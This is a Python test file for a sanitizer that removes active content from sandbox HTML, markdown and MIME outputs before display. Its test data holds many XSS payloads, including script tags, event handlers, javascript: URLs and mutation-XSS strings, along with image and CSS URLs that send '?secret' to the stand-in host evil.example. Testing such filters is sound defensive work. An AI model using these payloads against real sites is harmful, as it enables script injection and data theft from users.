"""What a sandbox displays cannot act in the page that shows it, nor make a browser load anything."""

from __future__ import annotations

import pytest

from codemode.rich_output import RichOutput
from codemode_kernel.untrusted import harmless


def shown(data: dict[str, object], metadata: dict[str, object] | None = None) -> RichOutput:
    return harmless(RichOutput("display_data", data, metadata or {}))[0]


def html(source: str) -> str:
    return str(shown({"text/html": source}).data["text/html"])


@pytest.mark.parametrize(
    "source",
    [
        "<script>steal()</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<svg><script>steal()</script></svg>",
        "<svg onload=steal()>",
        "<img src=x onerror=steal()>",
        "<b onmouseover='steal()'>text</b>",
        "<a href='javascript:steal()'>text</a>",
        "<a href=' jAvAsCrIpT:steal()'>text</a>",
        "<a href='java\tscript:steal()'>text</a>",
        "<a href='data:text/html,<script>steal()</script>'>text</a>",
        "<iframe srcdoc='<script>steal()</script>'></iframe>",
        "<object data='javascript:steal()'></object>",
        "<embed src='javascript:steal()'>",
        "<form action='javascript:steal()'><button>text</button></form>",
        "<math><mtext><table><mglyph><style><img src=x onerror=steal()>",
        "<noscript><p title='</noscript><img src=x onerror=steal()>'>",
        "<style>@import 'javascript:steal()'</style>",
        "<base href='javascript:steal()//'>",
        "<meta http-equiv=refresh content='0;javascript:steal()'>",
        "<button data-commandlinker-command='steal()'>text</button>",
        "<!--<img src='--><img src=x onerror=steal()>",
    ],
)
def test_html_is_left_without_what_acts(source: str) -> None:
    cleaned = html(source).lower()
    for part in (
        "<script",
        "javascript:",
        "onload",
        "onerror=steal",
        "<iframe",
        "<object",
        "<embed",
        "<style",
    ):
        assert part not in cleaned
    for part in ("<form", "<button", "<base", "<meta", "<svg", "<math", "onmouseover", "commandlinker"):
        assert part not in cleaned


@pytest.mark.parametrize(
    "source",
    [
        "<img src='https://evil.example/?secret'>",
        "<img src='//evil.example/?secret'>",
        "<img srcset='https://evil.example/?secret'>",
        "<div style=\"background: url('https://evil.example/?secret')\">text</div>",
        "<div style=\"background-color: u\\rl('https://evil.example/?secret')\">text</div>",
        "<div style=\"color: image-set('https://evil.example/?secret' 1x)\">text</div>",
        "<div style=\"color: u/**/rl('https://evil.example/?secret')\">text</div>",
        "<table background='https://evil.example/?secret'></table>",
        "<video poster='https://evil.example/?secret'></video>",
        "<link rel=prefetch href='https://evil.example/?secret'>",
    ],
)
def test_html_makes_a_browser_load_nothing(source: str) -> None:
    assert "evil.example" not in html(source)


@pytest.mark.parametrize("style", ["position: fixed; top: 0", "z-index: 9999", "behavior: x", "content: 'x'"])
def test_html_stays_in_its_cell(style: str) -> None:
    assert style.partition(":")[0] not in html(f'<div style="{style}; color: red">text</div>')
    assert "jp-" not in html("<div class='jp-Dialog'>text</div>")


def test_what_only_looks_like_something_is_kept() -> None:
    table = html('<table border="1" class="dataframe"><tr><td colspan="2">1 &lt; 2</td></tr></table>')
    for part in ('class="dataframe"', 'colspan="2"', "1 &lt; 2"):
        assert part in table
    assert "color:rgb(1,2,3)" in html('<b style="color: rgb(1,2,3)">x</b>').replace(" ", "")
    image = 'src="data:image/png;base64,iVBORw0KGgo="'
    assert image in html(f"<img {image}>")
    assert 'href="https://example.com/"' in html('<a href="https://example.com/">text</a>')
    assert "<summary>" in html("<details open><summary>more</summary>text</details>")


@pytest.mark.parametrize(
    ("source", "forbidden"),
    [
        ("<script>steal()</script>", "<s"),
        ("`<img src=x onerror=steal()>`", "<i"),
        ("![text](https://evil.example/?secret)", "!["),
        ("![text][1]\n\n[1]: https://evil.example/?secret", "!["),
        ("[text](javascript:steal())", "javascript:"),
        ("[text](JavaScript\\:steal())", "JavaScript\\:"),
        ("[text](<java\tscript:steal()>)", "<java"),
        ("[text](&#106;avascript:steal())", "&#106;"),
        ("[text](javascript&colon;steal())", "&colon;"),
        ("[1]: vbscript:steal()", "vbscript:"),
    ],
)
def test_markdown_is_text_where_it_would_act(source: str, forbidden: str) -> None:
    cleaned = shown({"text/markdown": source}).data["text/markdown"]
    assert forbidden not in cleaned
    # It reads as before.
    assert cleaned.replace("\u2060", "") == source


def test_other_markdown_is_kept() -> None:
    source = "# Title\n\n* **bold** [link](https://example.com)\n\n> quote\n\n`a > b` &lt;"
    assert shown({"text/markdown": source}).data["text/markdown"] == source


@pytest.mark.parametrize(
    "media_type",
    [
        "application/javascript",
        "text/javascript",
        "application/vnd.jupyter.widget-view+json",
        "application/vnd.bokehjs_exec.v0+json",
        "application/x-something-new",
        "TEXT/HTML",
        "text/html; charset=utf-8",
        "application/vnd.vega.v5+json; x",
    ],
)
def test_a_form_that_is_not_known_to_be_harmless_is_left_out(media_type: str) -> None:
    output, left_out = harmless(RichOutput("display_data", {media_type: "steal()", "text/plain": "text"}))
    assert output.data == {"text/plain": "text"} and left_out
    assert "steal" not in str(shown({media_type: "steal()"}).data)


def test_an_output_with_no_harmless_form_says_so() -> None:
    assert shown({"application/javascript": "1"}).data == {
        "text/plain": "[application/javascript of a sandbox is not shown]"
    }


@pytest.mark.parametrize(
    "media_type",
    ["text/plain", "text/latex", "image/svg+xml", "application/json", "application/vnd.vegalite.v5+json"],
)
def test_a_harmless_form_is_shown_as_it_is(media_type: str) -> None:
    output = RichOutput("display_data", {media_type: "<content>"})
    assert harmless(output) == (output, False)


def test_an_image_is_base64_and_has_a_size() -> None:
    assert "image/png" not in shown({"image/png": 'x" onerror="steal()'}).data
    png = {"image/png": "iVBORw0KGgo=\n"}
    sizes = {"image/png": {"width": 10, "height": '1" onload="steal()', "x": 1}}
    output = shown(dict(png), {**sizes, "text/html": {"isolated": True}, "collapsed": True})
    assert (output.data, output.metadata) == (png, {"image/png": {"width": 10}})


def test_the_kind_and_the_display_id_are_kept() -> None:
    output = RichOutput("update_display_data", {"text/html": "<b>x</b>"}, {}, {"display_id": "mine"})
    assert harmless(output)[0] == output
